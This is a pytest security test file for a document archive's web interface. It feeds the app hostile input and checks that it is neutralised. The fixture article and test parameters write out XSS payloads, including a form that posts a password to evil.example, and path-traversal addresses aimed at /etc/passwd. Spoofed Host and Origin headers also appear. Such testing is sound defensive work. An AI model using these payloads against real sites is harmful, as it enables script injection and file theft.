"""What a stranger's page, request or article cannot do: docs/security.md names these tests."""

import json
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from serving import Browser, served

from docarchive import Archive
from docarchive.web.app import PAGES
from docarchive.web.options import MAX_ADDRESS, MAX_BODY, MAX_QUERY

#: Pages of each kind; ID is an article.
PATHS = [
    "/",
    "/?q=pier",
    "/?q=pier+AND",
    "/timeline",
    "/topics",
    "/topics/tags",
    "/statistics",
    "/quarantine",
    "/nothing",
]
OF_ARTICLE = ["/articles/ID", "/articles/ID/similar", "/articles/ID/versions", "/articles/ID/changes"]
_HOSTILE = """---
title: "<script>alert(1)</script><img src=//evil.example/t>"
date: 2024-05-05
tags: ["\\"><script>alert(2)</script>", "x' onmouseover='alert(3)"]
authors: ["<svg onload=alert(4)>"]
source: "<iframe src=//evil.example>"
url: "javascript:alert(5)"
---
# Gale <script>alert(6)</script>

<script src="//evil.example/x.js"></script><img src=x onerror=alert(7)><iframe src="//evil.example"></iframe>
<form action="//evil.example"><input name=password></form><link rel=stylesheet href="//evil.example/x.css">
<p style="position:fixed;inset:0" onclick="alert(8)">styled</p><base href="//evil.example/">
<meta http-equiv=refresh content=0><object data="//evil.example"></object><svg><script>alert(11)</script></svg>
<a href="javascript:alert(9)">click</a> [too](javascript:alert(10))

![track](https://evil.example/pixel.png) gale gale

![local](gull.svg)
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Browser, str]]:
    """A server with a hostile article, and the article's id."""
    inbox = tmp_path_factory.mktemp("hostile") / "inbox"
    inbox.mkdir()
    (inbox / "page.md").write_text(_HOSTILE, "utf-8")
    (inbox / "gull.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>', "utf-8")
    with Archive.create(inbox.parent / "<b>archive") as archive:
        (id,) = archive.import_(inbox).ids
        archive.note(id, "<script>alert(12)</script>")
        archive.highlight(id, "styled", note='"><script>alert(13)</script>')
        archive.save_search("gales", 'gale "<script>"')
        archive.import_(_file(inbox.parent / "<script>.json", "{"))
        with served(archive) as browser:
            yield browser, id


def _file(path: Path, text: str) -> Path:
    path.write_text(text, "utf-8")
    return path


@pytest.mark.parametrize("path", [*PATHS, *OF_ARTICLE, "/?q=gale&filter=" + quote('tags:"><script>alert(2)</script>"')])
def test_a_hostile_article_puts_nothing_into_a_page(hostile: tuple[Browser, str], path: str) -> None:
    browser, id = hostile
    answer = browser.get(path.replace("ID", id))
    page = answer.page
    scripts = [attributes for tag, attributes in page.elements if tag == "script"]
    assert [*scripts[0]] == ["defer", "src"]
    assert len(scripts) == 1, "one script, and it has an address"
    assert {tag for tag, _ in page.elements}.isdisjoint({"iframe", "object", "embed", "base", "style", "svg"})
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name == "style"], (tag, attributes)
        assert "http-equiv" not in attributes
    assert not [address for address in page.addresses() if "javascript:" in address.lower()]
    loaded = [attributes["src"] for _, attributes in page.elements if "src" in attributes]
    loaded += [attributes["href"] for tag, attributes in page.elements if tag == "link"]
    assert all(address.startswith("/") and not address.startswith("//") for address in loaded), loaded
    actions = [attributes["action"] for tag, attributes in page.elements if tag == "form"]
    assert all(action.startswith("/") and not action.startswith("//") for action in actions)


@pytest.mark.parametrize("path", [*PATHS, *OF_ARTICLE, "/articles/ID/original", "/?format=csv"])
def test_every_answer_has_the_headers_that_keep_it_safe(browser: Browser, unchanged: Archive, path: str) -> None:
    id = next(unchanged.list("title:harbour")).id
    headers = browser.get(path.replace("ID", id)).headers
    policy = headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert "http" not in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert headers["cache-control"].startswith("private")
    assert "server" not in headers
    assert "access-control-allow-origin" not in headers


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("127.0.0.1:80", 200),
        ("localhost:8765", 200),
        ("[::1]:80", 200),
        ("LOCALHOST", 200),
        ("evil.example", 421),
        ("localhost.evil.example", 421),
        ("127.0.0.1.evil.example", 421),
        ("192.168.1.7:80", 421),
        ("", 421),
    ],
)
def test_a_name_of_a_stranger_that_leads_here_is_refused(browser: Browser, host: str, status: int) -> None:
    assert browser.get("/statistics", Host=host).status == status


def test_a_name_that_is_allowed_is_answered(unchanged: Archive) -> None:
    with served(unchanged, names=("News.example.org",)) as browser:
        assert browser.get("/", Host="news.example.org").status == 200
        assert browser.get("/", Host="news.example.org.evil.example").status == 421


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Origin": "http://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://127.0.0.1:1"}, 403),
        ({"Sec_Fetch_Site": "cross-site"}, 403),
        ({"Sec_Fetch_Site": "same-site"}, 403),
        ({"Sec_Fetch_Site": "same-origin"}, 405),
        ({}, 405),
    ],
)
def test_a_change_that_another_site_asks_for_is_refused(browser: Browser, headers: dict[str, str], status: int) -> None:
    assert browser.ask("POST", "/", b"", **headers).status == status


def test_a_change_of_the_own_page_passes_that_check(browser: Browser) -> None:
    assert browser.ask("POST", "/", b"", Origin=browser.address.rstrip("/")).status == 405


def test_two_hosts_in_a_request_are_refused(browser: Browser) -> None:
    with socket.create_connection(browser.host.split(":")) as connection:  # type: ignore[arg-type]
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
        assert connection.recv(100).split()[1] in (b"400", b"421")


def test_what_is_too_long_is_refused(browser: Browser) -> None:
    assert browser.get("/?q=" + "a" * MAX_ADDRESS).status == 414
    assert browser.get("/?q=" + "a" * (MAX_QUERY + 1)).status == 400
    assert browser.ask("POST", "/", b"x" * (MAX_BODY + 1)).status == 413
    assert browser.ask("POST", "/", None, Content_Length="-1").status in (400, 413)
    assert browser.get("/?" + "&".join(["filter=pier"] * 5)).status == 200
    assert browser.get("/?" + "&".join(f"filter=t{n}" for n in range(50))).status == 400
    assert browser.get("/?page=501").status == 400


def test_an_original_is_saved_and_runs_nothing(browser: Browser, unchanged: Archive) -> None:
    id = next(unchanged.list("title:harbour")).id
    answer = browser.get(f"/articles/{id}/original")
    assert answer.body == unchanged.original(id).read_bytes()
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-security-policy"].startswith("sandbox;")


def test_a_picture_runs_nothing(hostile: tuple[Browser, str]) -> None:
    browser, id = hostile
    pictures = [attributes["src"] for tag, attributes in browser.get(f"/articles/{id}").page.elements if tag == "img"]
    assert len(pictures) == 1, "a picture from elsewhere is a link"
    answer = browser.get(pictures[0])
    assert answer.headers["content-type"] == "image/svg+xml"
    assert answer.headers["content-security-policy"].startswith("sandbox;")


@pytest.mark.parametrize(
    "path",
    [
        "/pictures/../docarchive.toml",
        "/pictures/..%2f..%2fdocarchive.toml",
        "/pictures/%2e%2e",
        "/static/0/..%2fapp.py",
        "/static/0/base.jinja",
        "/articles/..%2f..%2fetc/original",
        "/articles/%00",
        "//evil.example/",
        "/docarchive.toml",
        "/?format=template&template=/etc/passwd",
        "/?format=proof&manifest=/etc/passwd",
        "/?format=citation&style=/etc/passwd",
    ],
)
def test_no_address_leads_to_other_files(browser: Browser, path: str) -> None:
    answer = browser.get(browser.address + path.removeprefix("/")) if path.startswith("//") else browser.get(path)
    assert b"root:" not in answer.body
    assert b"[engine]" not in answer.body
    if "citation" not in path:
        assert answer.status in (400, 404)


def test_pages_are_only_read(browser: Browser) -> None:
    for path in PAGES:
        for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS"):
            path = path.replace("{id}", "x").replace("{name}", "x").replace("{kind}", "x").replace("{version}", "0")
            assert browser.ask(method, path).status == 405, (method, path)


def test_an_archive_that_is_gone_is_one_sentence(tmp_path: Path) -> None:
    with Archive.create(tmp_path / "archive") as archive:
        archive.import_(_file(tmp_path / "a.json", json.dumps({"title": "A", "body": "Text."})))
        with served(archive) as browser:
            id = next(archive.list()).id
            assert browser.get(f"/articles/{id}").status == 200
            shutil.rmtree(tmp_path / "archive")
            answer = browser.get(f"/articles/{id}")
            assert answer.status in (404, 500)
            assert "Traceback" not in answer.text
            assert answer.page.named["h1"]
